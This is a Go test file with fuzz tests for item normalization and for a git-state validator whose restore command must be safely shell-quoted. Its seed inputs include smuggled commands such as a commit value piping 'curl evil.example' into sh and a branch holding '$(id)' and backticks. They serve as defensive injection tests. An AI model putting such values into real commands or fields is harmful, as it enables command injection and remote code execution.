package smriti

import (
	"strings"
	"testing"
	"unicode"
)

func FuzzNormalizeItem(f *testing.F) {
	for _, s := range []string{"Use Go!", "  a\t\nb ", "Zürich", "स्मृति", "---", "ǅ İ ß"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		k := NormalizeItem(s)
		if NormalizeItem(k) != k {
			t.Fatalf("not idempotent: %q -> %q -> %q", s, k, NormalizeItem(k))
		}
		if strings.TrimSpace(k) != k || strings.Contains(k, "  ") {
			t.Fatalf("whitespace not collapsed: %q", k)
		}
		d := DiffLists([]string{s}, []string{k})
		if k != "" && len(d.Shared) != 1 {
			t.Fatalf("an item does not match its own key: %q vs %q: %+v", s, k, d)
		}
	})
}

// FuzzGitStateValidate: whatever the fields, a git state either fails
// Validate — and then has no restore command and shows as "invalid git
// state", and GitStateOf refuses it as stored metadata — or its restore
// command is a shell line in which every value is a single-quoted word
// (shellWords reads it back to exactly the words intended) and no control
// character appears.
func FuzzGitStateValidate(f *testing.F) {
	c := strings.Repeat("ab12", 10)
	for _, s := range []struct {
		commit, branch, diff string
		dirty                bool
	}{
		{c, "main", "", false}, {c, "", "", false}, {c, "feat/x", strings.Repeat("9", 64), true},
		{"0000000; curl evil.example | sh #", "main", "", false}, {c, "it's", "", false},
		{c, "a;b$(id)`id`|sh&", "", false}, {c, "-f", "", false}, {c, "main\n# x", "", false},
		{c, "x\x1b[2J", "", false}, {c, "a..b", "", false}, {strings.Repeat("f", 64), "@{-1}", "", true},
	} {
		f.Add(s.commit, s.branch, s.diff, s.dirty)
	}
	f.Fuzz(func(t *testing.T, commit, branch, diff string, dirty bool) {
		g := GitState{Commit: commit, Branch: branch, DiffSHA256: diff, Dirty: dirty}
		_, readErr := GitStateOf(map[string]any{"git": g.Map()})
		if err := g.Validate(); err != nil {
			if g.RestoreCommand() != "" || g.Line() != invalidGitState || readErr == nil {
				t.Fatalf("invalid %+v: command %q, line %q, read back %v", g, g.RestoreCommand(), g.Line(), readErr)
			}
			return
		}
		if readErr != nil {
			t.Fatalf("valid %+v refused when read back: %v", g, readErr)
		}
		cmd := g.RestoreCommand()
		if strings.IndexFunc(cmd, func(r rune) bool { return r < 0x20 || r == 0x7f }) >= 0 {
			t.Fatalf("control character in %q", cmd)
		}
		words, ok := shellWords(cmd)
		want := "git stash push -u -m smriti-restore && git switch --detach -- " + commit
		if branch != "" {
			want = "git stash push -u -m smriti-restore && git switch -- " + branch + " && git reset --keep " + commit + " --"
		}
		if !ok || strings.Join(words, " ") != want {
			t.Fatalf("%q reads as %q (ok %v), want %q", cmd, words, ok, want)
		}
	})
}

// shellWords splits a POSIX shell line into its words the way sh would,
// for the little a restore command may use: unquoted words of letters,
// digits and -_/.@+=:,%, single-quoted words, the operator "&&", and a
// trailing comment. ok is false for anything else outside quotes (a
// character sh would act on).
func shellWords(line string) (words []string, ok bool) {
	var cur strings.Builder
	inWord := false
	end := func() {
		if inWord {
			words = append(words, cur.String())
			cur.Reset()
			inWord = false
		}
	}
	for i := 0; i < len(line); i++ {
		ch := line[i]
		switch {
		case ch == ' ':
			end()
		case ch == '\'':
			j := strings.IndexByte(line[i+1:], '\'')
			if j < 0 {
				return nil, false
			}
			cur.WriteString(line[i+1 : i+1+j])
			inWord = true
			i += j + 1
		case ch == '\\' && i+1 < len(line):
			cur.WriteByte(line[i+1])
			inWord = true
			i++
		case ch == '&' && !inWord && strings.HasPrefix(line[i:], "&& "):
			words = append(words, "&&")
			i++
		case ch == '#' && !inWord:
			return words, true
		case ch < 0x80 && (ch >= 'a' && ch <= 'z' || ch >= 'A' && ch <= 'Z' || ch >= '0' && ch <= '9' || strings.IndexByte("-_/.@+=:,%", ch) >= 0):
			cur.WriteByte(ch)
			inWord = true
		default:
			return nil, false
		}
	}
	end()
	return words, true
}

// normalizeItemRunes is NormalizeItem as first written, rune by rune
// through the unicode tables: the ASCII fast paths must agree with it.
func normalizeItemRunes(s string) string {
	var b strings.Builder
	space := false
	for _, r := range s {
		switch {
		case unicode.IsLetter(r) || unicode.IsDigit(r) || unicode.IsMark(r):
			if space && b.Len() > 0 {
				b.WriteByte(' ')
			}
			space = false
			b.WriteRune(unicode.ToLower(r))
		case unicode.IsSpace(r):
			space = true
		}
	}
	return b.String()
}

func TestNormalizeItemASCII(t *testing.T) {
	// Every ASCII byte alone, between letters and after a space.
	for c := 0; c < 0x80; c++ {
		for _, s := range []string{string(rune(c)), "a" + string(rune(c)) + "b", "a " + string(rune(c)) + " b", " " + string(rune(c))} {
			if got, want := NormalizeItem(s), normalizeItemRunes(s); got != want {
				t.Fatalf("NormalizeItem(%q) = %q, want %q", s, got, want)
			}
		}
	}
	for _, s := range []string{"", " ", "a", "a b", "a  b", " a", "a ", "use go", "Use Go!", "x\u00a0y", "x\u0085y", "Zürich 12", "bad \xff utf8", "İstanbul", "K\u212a"} {
		if got, want := NormalizeItem(s), normalizeItemRunes(s); got != want {
			t.Fatalf("NormalizeItem(%q) = %q, want %q", s, got, want)
		}
	}
}

func FuzzNormalizeItemRunes(f *testing.F) {
	for _, s := range []string{"Use Go!", "  a\t\nb ", "Zürich", "स्मृति", "---", "ǅ İ ß", "a b", "x\xffy"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if got, want := NormalizeItem(s), normalizeItemRunes(s); got != want {
			t.Fatalf("NormalizeItem(%q) = %q, want %q", s, got, want)
		}
	})
}
